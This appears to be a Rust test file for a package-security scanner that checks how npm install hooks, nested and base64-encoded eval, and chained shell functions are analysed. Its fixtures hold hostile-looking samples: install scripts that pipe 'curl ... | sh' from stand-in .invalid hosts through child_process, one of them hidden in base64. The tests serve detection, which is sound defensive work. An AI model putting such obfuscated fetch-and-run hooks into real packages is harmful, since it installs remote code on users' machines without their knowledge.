//! What is not followed is said, and when it would run.

use super::{Found, analyse};
use crate::limit::evaluating;
use crate::package::Package;
use crate::unpack::{Content, Entry, Kind, Tree};
use customs_model::{Mark, SinkKind, SourceKind};

fn file(path: &str, text: &str) -> Entry {
    Entry {
        path: format!("package/{path}"),
        content: Content::Whole(text.as_bytes().into()),
        length: text.len() as u64,
        kind: Kind::Text,
        executable: false,
    }
}

/// A file that an installation runs by a program.
fn installed(program: &str, path: &str, text: &str) -> Found {
    let manifest = format!(r#"{{"name": "a", "scripts": {{"install": "{program} {path}"}}}}"#);
    let entries = vec![file("package.json", &manifest), file(path, text)];
    analyse(&Package::new(&Tree {
        entries,
        ..Tree::default()
    }))
}

/// Code in a text in a text, so many levels of texts.
fn nested(levels: u8) -> String {
    (0..levels).fold("a()".to_owned(), |inner, _| {
        let text = serde_json::to_string(&inner).unwrap_or_default();
        format!("eval({text})")
    })
}

#[test]
fn a_text_below_the_deepest_level_is_said_to_be_unread() {
    let read = installed("node", "a.js", &nested(evaluating::CHILDREN));
    assert!(!read.exhausted && !read.exhausted_hooks);
    let cut = installed("node", "a.js", &nested(evaluating::CHILDREN + 1));
    assert!(cut.exhausted && cut.exhausted_hooks);
    // What is imported holds no installation up.
    let code = nested(evaluating::CHILDREN + 1);
    let entries = vec![
        file("package.json", r#"{"name": "a", "main": "a.js"}"#),
        file("a.js", &code),
    ];
    let imported = analyse(&Package::new(&Tree {
        entries,
        ..Tree::default()
    }));
    assert!(imported.exhausted && !imported.exhausted_hooks);
}

#[test]
fn a_hidden_text_that_is_not_read_is_not_called_harmless() {
    let hidden = |times: usize| {
        let code = format!("eval(atob('YSgpOw==').repeat({times}))");
        installed("node", "a.js", &code)
    };
    let harmless = |found: &Found| {
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.marks.contains(&Mark::NoEffect))
    };
    let read = hidden(2);
    assert!(harmless(&read) && !read.exhausted_hooks);
    let cut = hidden(evaluating::TEXT / 4 + 1);
    assert!(!harmless(&cut) && cut.exhausted_hooks);
}

#[test]
fn a_file_of_code_that_is_run_as_it_stands_is_told_to_be_in_plain_sight() {
    // Whether something is run as hidden or seen, and whether it is in plain sight.
    let ran = |decode: &str, held: &str| {
        let code = format!(
            "const fs = require('fs');\neval({decode}(fs.readFileSync(__dirname + '/b.js', 'utf8')));\n"
        );
        let found = with_module(&code, held);
        let has = |mark: Mark| found.flows.iter().any(|flow| flow.marks.contains(&mark));
        (has(Mark::HiddenEffect), has(Mark::InPlainSight))
    };
    let text = "require('child_process').execSync('make --version');\n";
    assert_eq!(ran("", text), (true, true));
    // One edge changed: the file holds the same text in another form.
    let hidden = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdtYWtlIC0tdmVyc2lvbicpOwo=";
    assert_eq!(ran("atob", hidden), (true, false));
}

/// What an installation runs of a script that imports a module.
fn with_module(code: &str, module: &str) -> Found {
    let manifest = r#"{"name": "a", "scripts": {"install": "node a.js"}}"#;
    let entries = vec![
        file("package.json", manifest),
        file("a.js", code),
        file("b.js", module),
    ];
    analyse(&Package::new(&Tree {
        entries,
        ..Tree::default()
    }))
}

fn starts_what_it_fetches(found: &Found) -> bool {
    found
        .flows
        .iter()
        .any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
}

#[test]
fn an_encoded_path_of_a_program_of_the_package_hides_no_effect() {
    let hides = |command: &str| {
        let code = format!("require('child_process').execFileSync({command}, ['--version']);\n");
        let found = with_module(&code, "");
        let mut flows = found.flows.iter();
        flows.any(|flow| flow.marks.contains(&Mark::HiddenEffect))
    };
    assert!(!hides("__dirname + atob('L3Rvb2w=')"));
    // One edge changed: what is encoded fetches and runs.
    let hidden = "atob('c2g='), ['-c', atob('Y3VybCAtcyBodHRwczovL2EuaW52YWxpZC9hIHwgc2g=')]";
    assert!(hides(hidden));
}

#[test]
fn a_list_of_another_module_is_read_as_its_importer_leaves_it() {
    let module = "const t = ['exec', 'curl -s https://turn.invalid/a | sh', 'child_process'];\n\
                  module.exports = { t };\n";
    let turned = "const { t } = require('./b');\n\
                  t.push(t.shift());\n\
                  require(t[1])[t[2]](t[0]);\n";
    assert!(starts_what_it_fetches(&with_module(turned, module)));
    // One edge changed: nobody turns it.
    let idle = "const { t } = require('./b');\nrequire(t[1])[t[2]](t[0]);\n";
    assert!(!starts_what_it_fetches(&with_module(idle, module)));
}

#[test]
fn a_name_of_a_method_may_stand_in_another_module() {
    let module = "exports.a = 'child_process';\nexports.b = 'execSync';\n";
    let code = "const w = require('./b');\n\
                require(w.a)[w.b]('curl -s https://word.invalid/a | sh');\n";
    assert!(starts_what_it_fetches(&with_module(code, module)));
    let other = "exports.a = 'child_process';\nexports.b = 'toString';\n";
    assert!(!starts_what_it_fetches(&with_module(code, other)));
}

#[test]
fn a_text_that_is_too_long_is_said_to_be_unread() {
    let long = |bytes: usize| format!("eval(\"{}\")", "a();".repeat(bytes / 4 + 1));
    let read = installed("node", "a.js", &long(evaluating::TEXT / 64));
    assert!(!read.exhausted_hooks);
    let cut = installed("node", "a.js", &long(evaluating::TEXT));
    assert!(cut.exhausted_hooks);
}

/// Functions of a shell, each of which hands what it gets to the next one.
fn chain(functions: usize) -> String {
    let mut all = String::from("f0() { echo \"$1\"; }\n");
    for number in 1..functions {
        all += &format!("f{number}() {{ f{} \"$1\"; }}\n", number - 1);
    }
    all + &format!("f{} a\n", functions - 1)
}

#[test]
fn functions_of_a_shell_beyond_the_bound_are_said_to_be_unread() {
    assert!(!installed("sh", "a.sh", &chain(6)).exhausted_hooks);
    assert!(installed("sh", "a.sh", &chain(7)).exhausted_hooks);
}

#[test]
fn a_function_of_a_shell_that_calls_itself_is_read() {
    for again in ["f", "f \"$1\"", "f a \"$2\""] {
        let code = format!("f() {{ curl -s https://a.invalid; {again}; }}\nf b c\n");
        assert!(!installed("sh", "a.sh", &code).exhausted_hooks, "{again}");
    }
}

#[test]
fn scripts_of_a_shell_that_start_each_other_beyond_the_bound_are_said_to_be_unread() {
    let chain = |scripts: usize| {
        let manifest = r#"{"name": "a", "scripts": {"install": "sh a0.sh"}}"#;
        let mut entries = vec![file("package.json", manifest)];
        for number in 0..scripts {
            let text = format!("sh a{}.sh\n", number + 1);
            entries.push(file(&format!("a{number}.sh"), &text));
        }
        entries.push(file(&format!("a{scripts}.sh"), "echo a\n"));
        analyse(&Package::new(&Tree {
            entries,
            ..Tree::default()
        }))
    };
    assert!(!chain(1).exhausted_hooks);
    assert!(chain(8).exhausted_hooks);
}
